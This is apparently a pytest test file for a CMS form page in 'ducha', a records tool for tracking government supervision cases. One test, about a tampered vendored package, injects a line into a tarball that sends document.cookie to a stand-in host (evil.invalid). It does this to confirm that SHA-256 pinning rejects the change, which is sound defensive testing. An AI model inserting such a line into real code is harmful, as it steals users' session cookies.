"""The /admin/ form page: its generated Decap config, its YAML format (in Node), and the vendored Decap
CMS driven in Chromium against decap-server (git mode) on a scratch repository."""

from __future__ import annotations

import functools
import http.server
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
import yaml
from click.testing import CliRunner

from ducha.cli import cli
from ducha.errors import UsageError
from ducha.io.yamlfile import parse_yaml
from ducha.io.yamltext import yaml_scalar
from ducha.load.office import load_office
from ducha.model.office import CmsSettings
from ducha.outputs.cms.admin import VENDOR_DIR, check_vendor, pins, write_admin
from ducha.outputs.cms.config import FACT_WIDGET, decap_config
from ducha.schemas import load_schema

from .conftest import DEMO, REPO, TESTS, Invoke, demo_repo, free_port
from .gitrepo import GitRepo

#: The form page's npm packages (`make vendor`); a clone of this repository under test borrows ours.
VENDOR = Path(os.environ.get("DUCHA_VENDOR") or REPO / VENDOR_DIR)
DECAP_SERVER = TESTS / "decap-server" / "node_modules" / "decap-server" / "dist" / "index.js"
NODE = shutil.which("node")
TODAY = "2026-11-23"
FORGEJO = """cms:
  backend: forgejo
  base_url: https://git.qingchuan.invalid
  repo: ducha/records
  app_id: 6a1e-test
"""
GITEA = """cms:
  backend: gitea
  base_url: https://gitea.qingchuan.invalid/
  repo: ducha/records
  app_id: 6a1e-test
  staging_branch: 表单暂存
"""
#: The case schema's top-level keys in file order, as written in case.schema.json.
CASE_KEYS = ["id", "title", "category", "priority", "source", "requirements", "parent", "registered", "late_reason", "approval",
             "assigned", "assigned_late_reason", "lead_unit", "co_units", "owner", "time_limit", "milestones", "receipts", "progress",
             "urges", "extensions", "reports", "reviews", "followups", "feedback", "readings", "submissions", "upstream_changes",
             "attachments", "corrections", "cancelled",
             "archive", "visibility", "notes"]
#: tests/fixtures/demo/office.yaml's units.
DEMO_UNITS = ["市发改委", "市财政局", "市教育局", "市卫健委", "市住建局", "市交通运输局", "市生态环境局", "市自然资源局",
              "市人社局", "市民政局", "市城管局", "市数据局"]


def vendored() -> Path:
    if check_vendor(VENDOR):
        pytest.fail(f"the form page's npm packages are missing from {VENDOR}: `make test` runs `make vendor`")
    return VENDOR


def office_with(tmp_path: Path, settings: str) -> Path:
    root = demo_repo(tmp_path / "office")
    with (root / "office.yaml").open("a", encoding="utf-8") as file:
        file.write(settings)
    return root


def by_name(fields: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {field["name"]: field for field in fields}


# --- The generated configuration -------------------------------------------------------------------


def test_every_schema_field_in_file_order_with_chinese_labels(tmp_path: Path) -> None:
    office = load_office(office_with(tmp_path, FORGEJO))
    config = decap_config(office, load_schema("case"), [2025, 2026])
    assert [c["folder"] for c in config["collections"]] == ["cases/2026", "cases/2025"]
    collection = config["collections"][0]
    assert (collection["create"], collection["delete"], collection["format"]) == (False, False, "ducha-yaml")
    fields = by_name(collection["fields"])
    assert [f["name"] for f in collection["fields"]] == CASE_KEYS
    assert fields["progress"]["label"] == "办理进展"
    assert fields["progress"]["hint"].startswith("承办单位报告的阶段性进展，按日期追加，不得改写。")
    assert [f["name"] for f in fields["reports"]["fields"]] == ["date", "doc_no", "signer", "summary", "downstream", "late_reason"]
    assert [f["label"] for f in fields["reports"]["fields"]] == ["报告日期", "发文字号", "签发人", "办理情况", "下级办理报告", "补录理由"]
    assert [f["required"] for f in fields["reports"]["fields"]] == [True, True, True, True, False, False]
    assert [f["required"] for f in fields["progress"]["fields"]] == [True, False, True, False, False]  # milestone, late_reason


def test_logs_are_lists_that_keep_their_entries(tmp_path: Path) -> None:
    office = load_office(office_with(tmp_path, FORGEJO))
    fields = by_name(decap_config(office, load_schema("case"), [2026])["collections"][0]["fields"])
    for log in ("milestones", "receipts", "progress", "urges", "extensions", "reports", "reviews", "followups", "feedback",
                "readings", "submissions", "corrections"):
        assert (fields[log]["widget"], fields[log]["allow_remove"], fields[log]["allow_reorder"], fields[log]["allow_add"]) == \
            ("list", False, False, True), log


def test_units_are_choices_and_dates_have_patterns(tmp_path: Path) -> None:
    office = load_office(office_with(tmp_path, FORGEJO))
    fields = by_name(decap_config(office, load_schema("case"), [2026])["collections"][0]["fields"])
    by = by_name(fields["progress"]["fields"])["by"]
    assert by["widget"] == "select" and [o["value"] for o in by["options"]] == DEMO_UNITS
    assert by["options"][4] == {"label": "市住建局（青川市住房和城乡建设局）", "value": "市住建局"}
    assert by_name(fields["progress"]["fields"])["date"]["pattern"][0] == "^[0-9]{4}-[0-9]{2}-[0-9]{2}$"
    assert by_name(fields["reviews"]["fields"])["result"]["options"] == ["通过", "退回"]
    assert by_name(fields["progress"]["fields"])["summary"]["widget"] == "text"


def test_the_facts_a_unit_may_not_change_are_shown_as_text(tmp_path: Path) -> None:
    """The form opened on fifteen fact fields a unit may not change (the guard refuses it): each is text now, with
    its label (and its parts' labels), and every log stays a list to add to. The page shows the logs first
    (static/ducha-admin.js); config.yml keeps the schema's order, the order keys are written in."""
    office = load_office(office_with(tmp_path, FORGEJO))
    fields = decap_config(office, load_schema("case"), [2026])["collections"][0]["fields"]
    facts = [f["name"] for f in fields if f["widget"] == FACT_WIDGET]
    assert facts == ["id", "title", "category", "priority", "source", "requirements", "parent", "registered", "late_reason",
                     "approval", "assigned", "assigned_late_reason", "lead_unit", "co_units", "owner", "time_limit", "cancelled",
                     "archive", "visibility", "notes"]
    assert all(f["widget"] == "list" for f in fields if f["name"] not in facts)
    named = by_name(fields)
    assert named["lead_unit"] == {"name": "lead_unit", "label": "主办单位", "hint": named["lead_unit"]["hint"],
                                  "widget": FACT_WIDGET, "required": False}
    assert [sub["label"] for sub in named["approval"]["fields"]] == ["批准日期", "批准人", "批示意见", "补录理由"]
    admin = (Path(__file__).parents[1] / "generator/ducha/outputs/cms/static/ducha-admin.js").read_text(encoding="utf-8")
    assert "filter(f => f.widget !== FACT)" in admin and "fieldOrder(config.collections[0].fields)" in admin


def test_a_field_added_to_the_schema_appears_in_the_form(tmp_path: Path) -> None:
    office = load_office(office_with(tmp_path, FORGEJO))
    schema = json.loads(json.dumps(load_schema("case")))
    schema["properties"]["contact"] = {"title": "联系人", "description": "承办单位的联系人。", "type": "string"}
    schema["properties"]["progress"]["items"]["properties"]["phone"] = {
        "title": "电话", "description": "联系电话。", "type": "string", "pattern": "^[0-9-]+$"}
    fields = by_name(decap_config(office, schema, [2026])["collections"][0]["fields"])
    assert list(fields)[-1] == "contact" and fields["contact"]["label"] == "联系人"
    assert by_name(fields["progress"]["fields"])["phone"]["pattern"] == ["^[0-9-]+$", "格式不对：联系电话。"]


def test_forgejo_drafts_are_pull_requests_and_gitea_commits_to_a_staging_branch(tmp_path: Path) -> None:
    forgejo = decap_config(load_office(office_with(tmp_path / "f", FORGEJO)), load_schema("case"), [2026])
    assert forgejo["publish_mode"] == "editorial_workflow"
    assert forgejo["backend"]["name"] == "forgejo" and forgejo["backend"]["branch"] == "main"
    assert forgejo["backend"]["api_root"] == "https://git.qingchuan.invalid/api/v1"
    assert forgejo["locale"] == "zh_Hans" and "local_backend" not in forgejo
    gitea = decap_config(load_office(office_with(tmp_path / "g", GITEA)), load_schema("case"), [2026])
    assert "publish_mode" not in gitea
    assert (gitea["backend"]["name"], gitea["backend"]["branch"], gitea["backend"]["base_url"]) == \
        ("gitea", "表单暂存", "https://gitea.qingchuan.invalid")


def test_office_yaml_cms_settings_are_checked(tmp_path: Path, invoke: Invoke) -> None:
    root = office_with(tmp_path, FORGEJO.replace("backend: forgejo", "backend: gitlab"))
    result = invoke(root, "validate", "--today", TODAY)
    assert result.exit_code == 1
    assert "office.yaml" in result.output and "cms.backend" in result.output
    assert CmsSettings("gitea", "https://g", "a/b", "x").commit_branch == "forms"


def test_the_page_refuses_a_vendor_folder_at_another_version(tmp_path: Path, invoke: Invoke) -> None:
    root = office_with(tmp_path, FORGEJO)
    fake = tmp_path / "vendor"
    fake.mkdir()
    for pin in pins():
        (fake / f"{pin.name}-0.0.1.tgz").write_bytes(b"")
    result = CliRunner(env={"DUCHA_VENDOR": str(fake)}).invoke(cli, ["--root", str(root), "cms", "--today", TODAY])
    assert result.exit_code == 2
    assert "decap-cms 3.16.3（现有 0.0.1）" in result.output and "make vendor" in result.output
    assert not (root / "build" / "site" / "admin").exists()


def test_a_changed_vendored_file_never_reaches_the_page(tmp_path: Path) -> None:
    """The pinned SHA-256 is checked on every write, on the very bytes the page's files come from: a file
    changed in .vendor/ (a tarball rebuilt with one script more, its name and version unchanged) is refused."""
    import io
    import tarfile

    trojan = tmp_path / "vendor"
    shutil.copytree(vendored(), trojan)
    pin = next(p for p in pins() if p.name == "yaml")
    buffer = io.BytesIO()
    with tarfile.open(trojan / pin.tarball) as original, tarfile.open(fileobj=buffer, mode="w:gz") as changed:
        for member in original.getmembers():
            data = original.extractfile(member) if member.isfile() else None
            content = data.read() if data is not None else b""
            if member.name.endswith("/index.js"):
                content += b"\nfetch('https://evil.invalid/' + document.cookie);\n"
                member.size = len(content)
            changed.addfile(member, io.BytesIO(content) if member.isfile() else None)
    (trojan / pin.tarball).write_bytes(buffer.getvalue())
    office = load_office(office_with(tmp_path, FORGEJO))
    with pytest.raises(UsageError) as refused:
        write_admin(tmp_path / "site" / "admin", office, [2026], trojan)
    assert "yaml 2.9.1（文件与登记的 SHA-256 不符，已被改动）" in str(refused.value)
    assert not (tmp_path / "site" / "admin").exists()


def test_the_local_trial_needs_no_platform_settings(tmp_path: Path) -> None:
    """README's local trial stopped at 「office.yaml 中没有 cms 设置」: with --local-backend the page is made for
    decap-server on this machine, drafts as on Forgejo; without it the missing settings are named, with the trial."""
    root = office_with(tmp_path, "")
    runner = CliRunner(env={"DUCHA_VENDOR": str(vendored())})
    target = tmp_path / "admin"
    plain = runner.invoke(cli, ["--root", str(root), "cms", "--today", TODAY, "-o", str(target)])
    assert plain.exit_code == 2 and "office.yaml 中没有 cms（填报表单）设置" in plain.output and "--local-backend" in plain.output
    trial = runner.invoke(cli, ["--root", str(root), "cms", "--today", TODAY, "-o", str(target),
                                "--local-backend", "http://localhost:8081/api/v1"])
    assert trial.exit_code == 0, trial.output
    config = yaml.safe_load((target / "config.yml").read_text(encoding="utf-8"))
    assert config["local_backend"] == {"url": "http://localhost:8081/api/v1", "allowed_hosts": ["localhost", "127.0.0.1"]}
    assert (config["backend"]["name"], config["publish_mode"]) == ("forgejo", "editorial_workflow")


def trial_repo(root: Path) -> Path:
    """The demo office, committed, with no cms in office.yaml: what README's local trial starts from."""
    repo = GitRepo(root)
    demo_repo(root)
    repo.commit("导入示例数据", date="2026-11-20T09:00:00+08:00")
    return root


def trial_servers(root: Path) -> list[int]:
    """The processes (of this user) running decap-server on the repository ``root``."""
    marker = f"GIT_REPO_DIRECTORY={root.resolve()}".encode()
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and marker in (proc / "environ").read_bytes().split(b"\0"):
                found.append(int(proc.name))
        except OSError:
            continue
    return found


def api(url: str, body: dict[str, Any]) -> Any:
    request = urllib.request.Request(url, json.dumps(body).encode(), {"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as response:
        return json.load(response)


@pytest.mark.slow
def test_serve_form_runs_the_trial_in_one_command_and_stops_it_with_the_preview(tmp_path: Path) -> None:
    """README's local trial took two terminals and three steps: `ducha serve --form` starts decap-server on the
    repository, points the served /admin/ page at it, and Ctrl+C stops both, leaving no process behind."""
    root = trial_repo(tmp_path / "records")
    port = free_port()
    env = {**os.environ, "DUCHA_VENDOR": str(vendored()), "DUCHA_DECAP_SERVER": str(TESTS / "decap-server")}
    ducha = subprocess.Popen([str(Path(sys.executable).with_name("ducha")), "--root", str(root), "serve", "--form",
                              "--today", TODAY, "--port", str(port)],
                             env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                             # Ctrl+C as a terminal sends it: a pytest-xdist worker ignores SIGINT, and a child
                             # would inherit that and never see the interrupt this test sends.
                             preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        deadline = time.monotonic() + 180
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/admin/config.yml", timeout=5) as response:
                    config = yaml.safe_load(response.read().decode("utf-8"))
                break
            except OSError:
                assert ducha.poll() is None, ducha.communicate()
                assert time.monotonic() < deadline, "the preview never served /admin/config.yml"
                time.sleep(0.5)
        backend = config["local_backend"]["url"]
        assert re.fullmatch(r"http://127\.0\.0\.1:[0-9]+/api/v1", backend) and f":{port}/" not in backend
        assert api(backend, {"action": "info"}) == {
            "repo": "records", "publish_modes": ["simple", "editorial_workflow"], "type": "local_git"}
        listed = api(backend, {"action": "entriesByFolder",
                               "params": {"branch": "main", "folder": "cases/2026", "extension": "yaml", "depth": 1}})
        assert "cases/2026/DC-2026-0001.yaml" in {entry["file"]["path"] for entry in listed}
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/admin/", timeout=5) as response:
            assert "decap-cms/decap-cms.js" in response.read().decode("utf-8")
        [server] = trial_servers(root)
        assert Path(f"/proc/{server}/stat").read_text().split(") ")[1].split()[1] == str(ducha.pid)  # its child
    finally:
        ducha.send_signal(signal.SIGINT)
        try:
            _, err = ducha.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            ducha.kill()  # never leave a preview (and its decap-server) running after the test
            ducha.communicate()
            raise
    assert ducha.returncode == 0, err
    assert f"填报表单：http://127.0.0.1:{port}/admin/" in err and "Traceback" not in err
    assert trial_servers(root) == []


def test_serve_form_says_how_to_install_what_is_missing(tmp_path: Path, invoke: Invoke) -> None:
    root = trial_repo(tmp_path / "records")
    runner = CliRunner(env={"DUCHA_VENDOR": str(vendored()), "DUCHA_DECAP_SERVER": str(tmp_path / "nowhere")})
    missing = runner.invoke(cli, ["--root", str(root), "serve", "--form"])
    assert missing.exit_code == 2, missing.output
    assert (f"本机试用填报表单要用 decap-server，但 {tmp_path / 'nowhere'} 中没有安装（缺 node_modules/decap-server/dist/index.js）。"
            "修改：在 ducha 的源代码目录运行 make decap-server") in missing.output
    no_node = CliRunner(env={"DUCHA_VENDOR": str(vendored()), "PATH": str(tmp_path)})
    result = no_node.invoke(cli, ["--root", str(root), "serve", "--form"])
    assert result.exit_code == 2, result.output
    assert "本机试用填报表单要用 Node.js，但没有找到 node 命令。" in result.output
    assert "先运行 make node，或 sudo apt install nodejs npm" in result.output
    public = runner.invoke(cli, ["--root", str(root), "serve", "--form", "--profile", "public"])
    assert public.exit_code == 2 and "填报表单只在内部版站点中（现为 --profile public）" in public.output
    assert "Traceback" not in missing.output + result.output + public.output


def test_serve_form_stops_decap_server_when_the_preview_fails(tmp_path: Path) -> None:
    """The preview's port is taken: serving fails after decap-server started, and decap-server stops with it."""
    root = trial_repo(tmp_path / "records")
    runner = CliRunner(env={"DUCHA_VENDOR": str(vendored()), "DUCHA_DECAP_SERVER": str(TESTS / "decap-server")})
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result = runner.invoke(cli, ["--root", str(root), "serve", "--form", "--today", TODAY, "--port", str(port)])
    assert result.exit_code == 2 and "填报表单：" in result.output
    assert f"端口 {port} 已被占用，无法预览。修改：用 --port 换一个端口" in result.output
    assert trial_servers(root) == []


def test_the_page_is_written_whole_with_its_config(tmp_path: Path) -> None:
    office = load_office(office_with(tmp_path, FORGEJO))
    admin = write_admin(tmp_path / "site" / "admin", office, [2026], vendored())
    assert sorted(p.name for p in admin.iterdir()) == [
        "config.yml", "decap-cms", "ducha-admin.js", "ducha-format.js", "index.html", "yaml"]
    html = (admin / "index.html").read_text(encoding="utf-8")
    assert '<script src="decap-cms/decap-cms.js"></script>' in html and "http" not in html
    assert not list(admin.rglob(".pinned")) and not list(admin.rglob("*.map"))
    assert (admin / "config.yml").read_text(encoding="utf-8").startswith("# 由 ducha cms 按 case.schema.json")


# --- The YAML format, run in Node on the page's own files -------------------------------------------

_NODE_DRIVER = """
import { readFileSync } from 'node:fs';
import * as YAML from './yaml/index.js';
import { formatter, fieldOrder, scalar } from './ducha-format.js';
const input = JSON.parse(readFileSync(0, 'utf8'));
const config = YAML.parse(readFileSync('config.yml', 'utf8'));
const format = formatter(fieldOrder(config.collections[0].fields));
const out = {
  scalars: input.scalars.map(scalar),
  roundTrips: input.files.map(text => format.toFile(format.fromFile(text))),
  edits: input.edits.map(([text, change]) => {
    const data = format.fromFile(text);
    for (const [key, value] of Object.entries(change)) data[key] = value;
    return format.toFile(data);
  }),
};
process.stdout.write(JSON.stringify(out));
"""


@pytest.fixture(scope="module")
def node_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The form page's files, where Node can import them as ES modules."""
    if NODE is None:
        pytest.fail("Node.js is required for the form tests: `make test` installs it with apt.")
    root = tmp_path_factory.mktemp("node")
    office_root = demo_repo(root / "office")
    with (office_root / "office.yaml").open("a", encoding="utf-8") as file:
        file.write(FORGEJO)
    page = write_admin(root / "admin", load_office(office_root), [2026], vendored())
    (page / "package.json").write_text('{"type": "module"}', encoding="utf-8")
    (page / "driver.js").write_text(_NODE_DRIVER, encoding="utf-8")
    return page


def run_format(page: Path, scalars: list[str], files: list[str], edits: list[tuple[str, dict[str, Any]]]) -> dict[str, Any]:
    assert NODE is not None
    done = subprocess.run([NODE, "driver.js"], cwd=page, input=json.dumps({"scalars": scalars, "files": files, "edits": edits}),
                          capture_output=True, text=True, check=True)
    result: dict[str, Any] = json.loads(done.stdout)
    return result


#: Each text and how ducha writes it as a YAML value, by hand: plain where YAML reads it back as the same
#: text (and dates plain, as staff write them); in double quotes where plain it would turn into a boolean, a
#: number, null, a list, a mapping, a comment, lose a space or hold a control character.
SCALARS = [("市住建局", "市住建局"), ("2026-11-23", "2026-11-23"), ("yes", '"yes"'), ("No", '"No"'), ("0371", '"0371"'),
           ("1.5", '"1.5"'), ("~", '"~"'), ("- 列表", '"- 列表"'), ("a: b", '"a: b"'), ("含 # 号", '"含 # 号"'),
           ("：全角冒号开头", "：全角冒号开头"), ("结尾有空格 ", '"结尾有空格 "'), ("第一行\n第二行", '"第一行\\n第二行"'),
           ("制表\t符", '"制表\\t符"'), ('"引号"', '"\\"引号\\""'), ("'单引号'", '"\'单引号\'"'), ("[方括号]", '"[方括号]"'),
           ("@某人", '"@某人"'), ("青建〔2026〕133号", "青建〔2026〕133号"), ("已组织供热公司抢修。", "已组织供热公司抢修。"),
           ("*星号", '"*星号"'), ("%百分号", '"%百分号"'), ("`反引号`", '"`反引号`"'), ("2026-1-5", '"2026-1-5"'), ("", '""')]


def test_the_format_quotes_scalars_as_ducha_does(node_page: Path) -> None:
    result = run_format(node_page, [text for text, _ in SCALARS], [], [])
    assert result["scalars"] == [written for _, written in SCALARS]
    assert [yaml_scalar(text) for text, _ in SCALARS] == [written for _, written in SCALARS]  # ducha's own writer
    for text, written in SCALARS:
        doc, problems = parse_yaml(f"k: {written}\n".encode(), "x.yaml")
        assert problems == [] and doc is not None and doc.data == {"k": text}, text


def test_every_demo_record_reads_and_writes_back_byte_for_byte(node_page: Path) -> None:
    texts = [p.read_text(encoding="utf-8") for p in sorted((DEMO / "cases").rglob("*.yaml"))]
    assert len(texts) > 40
    assert run_format(node_page, [], texts, [])["roundTrips"] == texts


NEW_CASE = """# yaml-language-server: $schema=../../schema/case.schema.json
# 督查事项 DC-2026-0050。日期写成 YYYY-MM-DD；办理进展、督办、延期、报告、审核只在末尾追加，不改写已有记录。
id: DC-2026-0050
title: 冬季供暖保障
category: 领导批示
# source:
#   doc_no: 文号
registered: 2026-11-20
assigned: 2026-11-20
lead_unit: 市住建局
# co_units: [协办单位简称]
# progress:
#   - date: YYYY-MM-DD
"""
OLD_CASE = (DEMO / "cases" / "2026" / "DC-2026-0010.yaml").read_text(encoding="utf-8")


def test_form_edits_change_only_what_changed(node_page: Path) -> None:
    data = parse_yaml(OLD_CASE.encode(), "x")[0]
    assert data is not None
    reports = data.data["reports"]
    edits: list[tuple[str, dict[str, Any]]] = [
        # A progress entry added where the file had none: the key goes where the schema puts it.
        (OLD_CASE, {"progress": [{"summary": "已抢修完毕", "date": "2026-11-23", "by": ""}]}),
        # A report appended to an existing log: the old entries' lines stay as they were.
        (OLD_CASE, {"reports": reports + [{"date": "2026-11-23", "doc_no": "青建〔2026〕150号", "signer": "吴永强",
                                            "summary": "第一行\n第二行"}]}),
        # An old entry rewritten: only that log is written anew (the guard refuses it).
        (OLD_CASE, {"reports": [{**reports[0], "summary": "已抢修完毕。"}]}),
        # A template from `ducha new`: its comments stay, a blank optional field adds nothing.
        (NEW_CASE, {"progress": [{"date": "2026-11-23", "summary": "已部署"}], "owner": "", "source": {"doc_no": ""}}),
    ]
    added, appended, rewritten, template = run_format(node_page, [], [], edits)["edits"]
    assert added == OLD_CASE.replace("owner: 孙立新\n", "owner: 孙立新\nprogress:\n  - date: 2026-11-23\n    summary: 已抢修完毕\n")
    assert appended == OLD_CASE.replace(
        "reviews:\n", "  - date: 2026-11-23\n    doc_no: 青建〔2026〕150号\n    signer: 吴永强\n"
                      "    summary: \"第一行\\n第二行\"\nreviews:\n")
    assert rewritten == OLD_CASE.replace("summary: 已组织供热公司抢修。", "summary: 已抢修完毕。")
    assert template == NEW_CASE.replace(
        "lead_unit: 市住建局\n", "lead_unit: 市住建局\nprogress:\n  - date: 2026-11-23\n    summary: 已部署\n")


# --- Decap CMS in Chromium against decap-server in git mode ---------------------------------------


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A git repository holding the demo office with a Forgejo form, as the office would have it."""
    root = tmp_path_factory.mktemp("cms") / "records"
    repo = GitRepo(root)
    demo_repo(root)
    with (root / "office.yaml").open("a", encoding="utf-8") as file:
        file.write(FORGEJO)
    repo.commit("导入示例数据", date="2026-11-20T09:00:00+08:00")
    repo.git("config", "user.name", "表单测试")  # decap-server commits as the repository's user
    repo.git("config", "user.email", "form@dcs.example.cn")
    return root


@pytest.fixture(scope="module")
def decap_server(scratch: Path) -> Iterator[str]:
    if NODE is None or not DECAP_SERVER.is_file():
        pytest.fail("decap-server is missing: `make test` installs it with npm (tests/decap-server).")
    port = free_port()
    env = {**os.environ, "MODE": "git", "GIT_REPO_DIRECTORY": str(scratch), "PORT": str(port), "BIND_HOST": "127.0.0.1",
           "LOG_LEVEL": "error", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull}
    server = subprocess.Popen([NODE, str(DECAP_SERVER)], env=env, cwd=scratch,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if time.monotonic() > deadline or server.poll() is not None:
                    pytest.fail("decap-server did not start")
                time.sleep(0.2)
        yield f"http://127.0.0.1:{port}/api/v1"
    finally:
        server.terminate()
        server.wait(timeout=10)


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def admin(scratch: Path, decap_server: str, invoke_module: Invoke, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The page written by `ducha cms`, pointed at decap-server and served on localhost."""
    www = tmp_path_factory.mktemp("www")
    result = invoke_module(scratch, "cms", "--today", TODAY, "--local-backend", decap_server, "-o", str(www / "admin"))
    assert result.exit_code == 0, result.output
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(QuietHandler, directory=str(www)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/admin/"
    httpd.shutdown()


@pytest.fixture(scope="module")
def invoke_module() -> Invoke:
    runner = CliRunner(env={"DUCHA_VENDOR": str(vendored())})  # the scratch repository has no .vendor/ of its own
    return lambda root, *args: runner.invoke(cli, ["--root", str(root), *args], catch_exceptions=False)


class Form:
    """The form page in Chromium, logged in to decap-server, remembering every request it made."""

    def __init__(self, browser: Any, url: str) -> None:
        self.url = url
        self.requests: list[str] = []
        self.page = browser.new_page(viewport={"width": 1280, "height": 1600})
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.goto(url, wait_until="networkidle")
        self.page.get_by_role("button", name="登录").click()
        self.page.get_by_text("2026年督查事项").first.wait_for()

    def open(self, case_id: str) -> None:
        self.page.goto(f"{self.url}#/collections/cases-2026/entries/{case_id}", wait_until="networkidle")
        self.page.get_by_text("办理进展").first.wait_for()

    def fill(self, selector: str, value: str) -> None:
        self.page.locator(f"{selector}:visible").fill(value)

    def choose(self, selector: str, value: str) -> None:
        """Pick ``value`` in a list of choices (the office's units): typing filters it, Enter takes the first."""
        box = self.page.locator(f"{selector}:visible")
        box.fill(value)
        box.press("Enter")

    def save(self) -> None:
        self.page.get_by_role("button", name="保存", exact=True).click()
        self.page.get_by_text("修改已保存").wait_for()

    def foreign_hosts(self) -> set[str]:
        return {urlparse(url).hostname or url for url in self.requests} - {"127.0.0.1"}


def draft(scratch: Path, case_id: str, into: Path) -> Path:
    """A clone of the scratch repository on the form's draft branch (a Forgejo pull request's head)."""
    branch = f"cms/cases-2026/{case_id}"
    deadline = time.monotonic() + 20
    while subprocess.run(["git", "rev-parse", "--verify", "-q", branch], cwd=scratch, capture_output=True).returncode:
        assert time.monotonic() < deadline, f"no draft branch {branch}"
        time.sleep(0.2)
    subprocess.run(["git", "clone", "-q", "-b", branch, str(scratch), str(into)], check=True, capture_output=True)
    return into


def diff(clone: Path, path: str) -> str:
    return subprocess.run(["git", "diff", "-U0", "origin/main", "HEAD", "--", path], cwd=clone, capture_output=True,
                          text=True, check=True).stdout


def added_and_removed(patch: str) -> tuple[list[str], list[str]]:
    lines = [line for line in patch.splitlines() if not line.startswith(("+++", "---"))]
    return [line[1:] for line in lines if line.startswith("+")], [line[1:] for line in lines if line.startswith("-")]


def test_a_progress_entry_added_through_the_form_passes_the_guard(
        browser: Any, admin: str, scratch: Path, tmp_path: Path, invoke: Invoke) -> None:
    form = Form(browser, admin)
    form.open("DC-2026-0010")
    # The facts are text, not inputs: 事项名称 reads as written and cannot be typed over.
    title = "群众反映某小区供暖管网漏水问题"
    assert form.page.locator("[data-ducha-fact]").filter(has_text=title).count() == 1
    assert not form.page.locator("input, textarea").evaluate_all(f"boxes => boxes.some(box => box.value === {title!r})")
    form.page.get_by_role("button", name="新增办理进展").click()
    form.fill('input[id^="date-field"]', "2026-11-23")
    form.choose('input[id^="by-field"]', "市住建局")
    form.fill('textarea[id^="summary-field"]', "已完成管网抢修：逐户回复群众，供暖恢复正常。")
    form.save()
    clone = draft(scratch, "DC-2026-0010", tmp_path / "clone")
    added, removed = added_and_removed(diff(clone, "cases/2026/DC-2026-0010.yaml"))
    assert removed == []
    assert added == ["progress:", "  - date: 2026-11-23", "    by: 市住建局", '    summary: 已完成管网抢修：逐户回复群众，供暖恢复正常。']
    message = subprocess.run(["git", "log", "-1", "--format=%s"], cwd=clone, capture_output=True, text=True).stdout.strip()
    assert message == "表单：填报 DC-2026-0010"
    result = invoke(clone, "guard", "--base", "origin/main", "--today", TODAY)
    assert result.exit_code == 0, result.output
    assert "1 个督查事项文件有改动，均为追加" in result.output
    assert form.foreign_hosts() == set()


def test_an_old_entry_edited_through_the_form_is_refused_by_the_guard(
        browser: Any, admin: str, scratch: Path, tmp_path: Path, invoke: Invoke) -> None:
    form = Form(browser, admin)
    form.open("DC-2026-0005")
    form.page.get_by_text("1 办理报告").click()
    form.page.locator("[class*='ListItemTopBar'] button:visible").first.click()
    form.fill('textarea[id^="summary-field"]', "改写后的办理情况。")
    form.save()
    clone = draft(scratch, "DC-2026-0005", tmp_path / "clone")
    added, removed = added_and_removed(diff(clone, "cases/2026/DC-2026-0005.yaml"))
    assert removed == ["    summary: 全市46个街道均建成就业服务站。"]
    assert added == ["    summary: 改写后的办理情况。"]
    result = invoke(clone, "guard", "--base", "origin/main", "--today", TODAY)
    assert result.exit_code == 1
    assert "cases/2026/DC-2026-0005.yaml" in result.output and "reports" in result.output
    assert "只能追加" in result.output
    assert form.foreign_hosts() == set()


@pytest.mark.slow
def test_the_internal_site_build_carries_the_form_page(tmp_path: Path) -> None:
    root = office_with(tmp_path, GITEA)
    result = CliRunner(env={"DUCHA_VENDOR": str(vendored())}).invoke(cli, ["--root", str(root), "build", "--today", TODAY])
    assert result.exit_code == 0, result.output
    assert "填报表单：build/site/admin/index.html" in result.output
    config = (root / "build" / "site" / "admin" / "config.yml").read_text(encoding="utf-8")
    assert "  name: gitea\n" in config and "  branch: 表单暂存\n" in config
    assert (root / "build" / "site" / "admin" / "decap-cms" / "decap-cms.js").is_file()
